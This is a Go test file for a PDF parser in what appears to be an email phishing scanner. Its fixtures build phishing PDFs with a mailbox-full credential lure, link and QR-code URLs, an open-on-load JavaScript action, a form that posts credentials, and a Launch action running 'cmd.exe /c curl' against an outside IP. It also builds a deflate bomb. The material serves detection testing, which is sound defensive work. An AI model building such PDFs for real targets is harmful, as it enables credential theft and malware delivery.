package pdf

import (
	"bytes"
	"compress/zlib"
	"context"
	"fmt"
	"image/jpeg"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/makiuchi-d/gozxing"
	"github.com/makiuchi-d/gozxing/qrcode"

	"github.com/hospital-league/leaguemail/parser/qr"
)

// builder writes a PDF file object by object, with a classic xref table
// (ISO 32000-1, 7.5.4), as simple PDF producers do.
type builder struct{ objs []string }

// add appends an object and returns its number.
func (b *builder) add(body string) int {
	b.objs = append(b.objs, body)
	return len(b.objs)
}

// stream is a stream object's text: dict entries and data.
func stream(dict string, data []byte) string {
	return fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", dict, len(data), data)
}

func deflate(data []byte) []byte {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	w.Write(data)
	w.Close()
	return b.Bytes()
}

func (b *builder) bytes(root int) []byte {
	var out bytes.Buffer
	out.WriteString("%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
	offs := make([]int, len(b.objs))
	for i, o := range b.objs {
		offs[i] = out.Len()
		fmt.Fprintf(&out, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := out.Len()
	fmt.Fprintf(&out, "xref\n0 %d\n0000000000 65535 f \n", len(b.objs)+1)
	for _, off := range offs {
		fmt.Fprintf(&out, "%010d 00000 n \n", off)
	}
	fmt.Fprintf(&out, "trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(b.objs)+1, root, xref)
	return out.Bytes()
}

func qrJPEG(t testing.TB, text string) []byte {
	m, err := qrcode.NewQRCodeWriter().Encode(text, gozxing.BarcodeFormat_QR_CODE, 200, 200, nil)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := jpeg.Encode(&b, m, &jpeg.Options{Quality: 90}); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// phishPDF is the one-page PDF of a credential phish: a line of text, a
// button (link annotation), a QR code picture, and a script on opening.
func phishPDF(t testing.TB) []byte {
	var b builder
	catalog := b.add("<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>")
	b.add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
	b.add("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [5 0 R] /Resources << /Font << /F1 6 0 R >> /XObject << /Im1 8 0 R >> >> >>")
	content := "BT /F1 14 Tf 72 720 Td (Your mailbox is full \\(98%\\).) Tj 0 -20 Td [(Visit https://mailbox-quota.exa) -20 (mple-phish.top/restore) -600 (today)] TJ ET\n" +
		"q 200 0 0 200 72 400 cm /Im1 Do Q\n"
	b.add(stream("/Filter /FlateDecode", deflate([]byte(content))))
	b.add("<< /Type /Annot /Subtype /Link /Rect [72 600 300 630] /Border [0 0 0] /A << /Type /Action /S /URI /URI (https://annot.example-phish.top/login?u=1) >> >>")
	b.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
	b.add("<< /Type /Action /S /JavaScript /JS (app.launchURL\\(\"https://js.example-phish.top/open\", true\\);) >>")
	b.add(stream("/Type /XObject /Subtype /Image /Width 200 /Height 200 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode",
		qrJPEG(t, "https://qr-in-pdf.example-phish.top/scan")))
	return b.bytes(catalog)
}

func TestRead(t *testing.T) {
	d, err := Read(context.Background(), phishPDF(t), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Contains(d.Links, Link{"https://annot.example-phish.top/login?u=1", "uri"}) {
		t.Errorf("links %+v: the annotation's URI is missing", d.Links)
	}
	for _, w := range []string{"Your mailbox is full (98%).", "Visit https://mailbox-quota.example-phish.top/restore today", `app.launchURL("https://js.example-phish.top/open"`} {
		if !strings.Contains(d.Text, w) {
			t.Errorf("text %q lacks %q", d.Text, w)
		}
	}
	if d.Pages != 1 {
		t.Errorf("%d pages, want 1", d.Pages)
	}
	if len(d.Images) != 1 {
		t.Fatalf("%d pictures, want 1 (errors %q)", len(d.Images), d.Errors)
	}
	texts, err := qr.Decode(d.Images[0].Data, qr.Limits{})
	if err != nil || !slices.Equal(texts, []string{"https://qr-in-pdf.example-phish.top/scan"}) {
		t.Errorf("QR code of the picture: %q, %v", texts, err)
	}
}

func TestReadActions(t *testing.T) {
	var b builder
	catalog := b.add("<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>")
	b.add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
	b.add("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R 5 0 R] >>")
	b.add("<< /FT /Btn /T (Submit) /Subtype /Widget /Rect [0 0 10 10] /A << /S /SubmitForm /F << /FS /URL /F (https://form-post.example-phish.top/creds.php) >> >> >>")
	b.add("<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /Win << /F (cmd.exe) /P (/c curl http://198.51.100.9/a) >> /F <FEFF0068007400740070003A002F002F006C00610075006E00630068002E006500780061006D0070006C0065002F> >> >>")
	d, err := Read(context.Background(), b.bytes(catalog), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range []Link{
		{"https://form-post.example-phish.top/creds.php", "submit-form"},
		{"http://launch.example/", "launch"},
		{"cmd.exe", "launch"},
	} {
		if !slices.Contains(d.Links, w) {
			t.Errorf("links %+v lack %+v", d.Links, w)
		}
	}
}

func TestReadHostile(t *testing.T) {
	valid := phishPDF(t)
	var bomb builder
	root := bomb.add("<< /Type /Catalog /Pages 2 0 R >>")
	bomb.add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
	bomb.add("<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>")
	bomb.add(stream("/Filter /FlateDecode", deflate(make([]byte, 8<<20))))
	tests := []struct {
		name    string
		data    []byte
		lim     Limits
		wantErr bool
		errLike string
	}{
		{"not a pdf", []byte("hello"), Limits{}, true, ""},
		{"header only", []byte("%PDF-1.7\n"), Limits{}, true, ""},
		{"cut in half", valid[:len(valid)/2], Limits{}, false, ""},
		{"garbage after the header", append([]byte("%PDF-1.4\n"), bytes.Repeat([]byte("<<[(/"), 2000)...), Limits{}, true, ""},
		{"deflate bomb", bomb.bytes(root), Limits{MaxDecodedBytes: 1 << 20}, false, "limit"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d, err := Read(context.Background(), tt.data, tt.lim)
			if tt.wantErr {
				if err == nil {
					t.Errorf("no error, document %+v", d)
				}
				return
			}
			if err != nil {
				// A damaged file may be refused; it must not panic.
				return
			}
			if tt.errLike != "" && !strings.Contains(strings.Join(d.Errors, "\n"), tt.errLike) {
				t.Errorf("errors %q: want one about %q", d.Errors, tt.errLike)
			}
			if int64(len(d.Text)) > DefaultMaxDecodedBytes {
				t.Errorf("%d bytes of text", len(d.Text))
			}
		})
	}
}

func TestReadStopsWithContext(t *testing.T) {
	ctx, cancel := context.WithDeadline(context.Background(), time.Unix(0, 0))
	defer cancel()
	if d, err := Read(ctx, phishPDF(t), Limits{}); err == nil && len(d.Errors) == 0 {
		t.Errorf("read past its deadline without a word: %+v", d)
	}
}

func TestContentText(t *testing.T) {
	for in, want := range map[string]string{
		`BT (a\)b\\c\101) Tj ET`:                      "a)b\\cA\n",
		`BT <0068007400740070> Tj ET`:                 "http\n",
		`BT <48656C6C6F> Tj T* (World) Tj ET`:         "Hello\nWorld\n",
		`BT [(evil) 10 (.ex) -30 (ample)] TJ ET`:      "evil.example\n",
		"BI /W 1 /H 1 ID \x00(x) EI BT (after) Tj ET": "after\n",
		`BT (unterminated`:                            "",
	} {
		var b bytes.Buffer
		contentText([]byte(in), &b)
		if b.String() != want {
			t.Errorf("contentText(%q) = %q, want %q", in, b.String(), want)
		}
	}
}

func TestReadFlatePictures(t *testing.T) {
	m, err := qrcode.NewQRCodeWriter().Encode("https://flate-qr.example-phish.top/", gozxing.BarcodeFormat_QR_CODE, 120, 120, nil)
	if err != nil {
		t.Fatal(err)
	}
	grey := make([]byte, 0, 120*120)
	rgb := make([]byte, 0, 3*120*120)
	indexed := make([]byte, 0, 120*120)
	for y := 0; y < 120; y++ {
		for x := 0; x < 120; x++ {
			v := byte(255)
			if m.Get(x, y) {
				v = 0
			}
			grey = append(grey, v)
			rgb = append(rgb, v, v, v)
			indexed = append(indexed, 1-v/255) // palette: 0 white, 1 black
		}
	}
	var b builder
	root := b.add("<< /Type /Catalog /Pages 2 0 R >>")
	b.add("<< /Type /Pages /Kids [] /Count 0 >>")
	b.add(stream("/Type /XObject /Subtype /Image /Width 120 /Height 120 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode", deflate(grey)))
	b.add(stream("/Type /XObject /Subtype /Image /Width 120 /Height 120 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode", deflate(rgb)))
	b.add(stream("/Type /XObject /Subtype /Image /Width 120 /Height 120 /ColorSpace [/Indexed /DeviceRGB 1 <FFFFFF000000>] /BitsPerComponent 8 /Filter /FlateDecode", deflate(indexed)))
	d, err := Read(context.Background(), b.bytes(root), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if len(d.Images) != 3 {
		t.Fatalf("%d pictures, want 3 (errors %q)", len(d.Images), d.Errors)
	}
	for _, img := range d.Images {
		if img.Gray == nil {
			t.Fatalf("%s: not read as grey levels", img.Name)
		}
		texts, err := qr.DecodeImage(img.Gray, qr.Limits{})
		if err != nil || !slices.Equal(texts, []string{"https://flate-qr.example-phish.top/"}) {
			t.Errorf("%s: %q, %v", img.Name, texts, err)
		}
	}
}

func TestReadNoPageTree(t *testing.T) {
	// A catalog without /Pages trips pdfcpu's page count (a nil pointer):
	// pages are found as objects, and the links are kept.
	var b builder
	root := b.add("<< /Type /Catalog /OpenAction << /S /URI /URI (https://no-pages.example-phish.top/) >> >>")
	d, err := Read(context.Background(), b.bytes(root), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Contains(d.Links, Link{"https://no-pages.example-phish.top/", "uri"}) {
		t.Errorf("links %+v", d.Links)
	}
}

func TestReadTokensOnLines(t *testing.T) {
	// Google Slides writes "3\n0\nobj": pdfcpu reads no object of such a
	// file. Its clear-text URIs and its Flate content streams are read
	// from the bytes.
	data := onLines(phishPDF(t))
	d, err := Read(context.Background(), data, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Contains(d.Links, Link{"https://annot.example-phish.top/login?u=1", "uri"}) {
		t.Errorf("links %+v", d.Links)
	}
	if !strings.Contains(d.Text, "Visit https://mailbox-quota.example-phish.top/restore today") {
		t.Errorf("text %q", d.Text)
	}
}

// onLines puts every token of the objects of a PDF on a line of its own,
// as Google Slides exports do, leaving stream data, the xref table and the
// offsets as they are.
func onLines(pdf []byte) []byte {
	out := bytes.Clone(pdf)
	end := bytes.LastIndex(out, []byte("xref"))
	for i := 0; i < end; i++ {
		if bytes.HasPrefix(out[i:], []byte("stream\n")) {
			j := bytes.Index(out[i:], []byte("endstream"))
			i += j + len("endstream")
			continue
		}
		if out[i] == ' ' {
			out[i] = '\n'
		}
	}
	return out
}
